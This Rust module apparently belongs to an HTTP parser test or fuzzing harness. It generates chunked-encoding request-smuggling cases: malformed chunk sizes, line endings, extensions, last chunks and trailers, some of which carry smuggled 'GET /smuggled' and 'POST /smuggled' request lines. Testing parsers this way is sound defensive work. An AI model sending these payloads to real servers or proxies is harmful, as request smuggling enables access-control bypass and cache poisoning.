//! Chunks that one reader counts otherwise than another: sizes, ends of lines, extensions, trailers.

use super::attack::{Attack, HIDDEN};

const BEFORE_A_SIZE: [&str; 12] = ["0x", "+", "-", " ", "\t", "_", "\"", "0_", "\x0b", "\r", "\n", "\r\n"];

const BEHIND_A_SIZE: [&str; 24] = [
    " ",
    "\t",
    "\x0b",
    "_",
    "x",
    "g",
    ".",
    ",",
    ":",
    "\0",
    "\u{85}",
    "\u{a0}",
    " 5",
    ";",
    ";a",
    ";a=b",
    ";a=\"b\"",
    ";a=\"\r\n\"",
    ";a\0",
    ";\x7f",
    "; ;",
    " ;a",
    "\r;a",
    ";a\r",
];

const ENDS_OF_A_LINE: [&str; 7] = ["\n", "\r", "\rX", "\r\r", "\r\r\n", "\n\r", "\n\n"];

const ENDS_OF_DATA: [&str; 8] = ["", "\n", "\r", "XX", "\rX", "\r\r", "\n\r", "\r\n\r\n"];

const LAST: [&str; 14] = [
    "00\r\n\r\n",
    "-0\r\n\r\n",
    "-1\r\n\r\n",
    "0x0\r\n\r\n",
    "0\n\n",
    "0\r\n\n",
    "0\n\r\n",
    "0\r\r",
    "0\r\n\r\r\n",
    "0;\n\r\n",
    "\r\n\r\n",
    "\r\n0\r\n\r\n",
    "10000000000000000\r\n\r\n",
    "fffffffffffffffff\r\n\r\n",
];

const TRAILERS: [&str; 13] = [
    "X: y",
    "Content-Length: 40",
    "Transfer-Encoding: chunked",
    "Host: b",
    "X-Forwarded-For: 192.0.2.1",
    " X: y",
    "X y",
    ": y",
    "X: \0",
    "\rZ",
    "X: y\nGET /smuggled HTTP/1.1",
    "X: y\r\n\nGET /smuggled HTTP/1.1",
    "X:POST /smuggled HTTP/1.1",
];

pub fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let mut add = |body: String| {
        let name = format!("chunks: {}", body.as_bytes().escape_ascii());
        attacks.push(Attack::post(name, &[b"Transfer-Encoding: chunked"], body.as_bytes()));
    };
    let size = format!("{:x}", HIDDEN.len());
    for before in BEFORE_A_SIZE {
        add(format!("{before}{size}\r\n{HIDDEN}\r\n0\r\n\r\n"));
        add(format!("0\r\n{before}{size}\r\n{HIDDEN}\r\n0\r\n\r\n"));
    }
    for behind in BEHIND_A_SIZE {
        add(format!("{size}{behind}\r\n{HIDDEN}\r\n0\r\n\r\n"));
        add(format!("0{behind}\r\n\r\n"));
    }
    for end in ENDS_OF_A_LINE {
        add(format!("{size}{end}{HIDDEN}\r\n0\r\n\r\n"));
        add(line_ends_there(end));
        add(extension_goes_on(end));
    }
    for end in ENDS_OF_DATA {
        // With and without a digit that a reader loses who counts two bytes for the end.
        for lost in ["", "0", "1"] {
            add(format!("5\r\nhello{end}{lost}{size}\r\n{HIDDEN}\r\n0\r\n\r\n"));
        }
    }
    for last in LAST {
        add(format!("{size}\r\n{HIDDEN}\r\n{last}"));
        add(last.into());
    }
    for trailer in TRAILERS {
        add(format!("5\r\nhello\r\n0\r\n{trailer}\r\n\r\n"));
    }
    add(format!("0_2e\r\n\r\n{HIDDEN}0\r\n\r\n"));
    attacks
}

/// Whoever ends the line at `end` reads two chunks; whoever does not reads a size for content, and then the last chunk.
fn line_ends_there(end: &str) -> String {
    let inner = format!("0\r\n\r\n{HIDDEN}");
    format!("2;{end}xx\r\n{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len())
}

/// The other way round.
fn extension_goes_on(end: &str) -> String {
    let filling = "x".repeat(12);
    let inner = format!("{filling}\r\n0\r\n\r\n{HIDDEN}");
    let size = format!("{:x}\r\n", inner.len());
    format!("2;{end}xx\r\n{:x}\r\n{size}{inner}\r\n0\r\n\r\n", size.len() + filling.len())
}
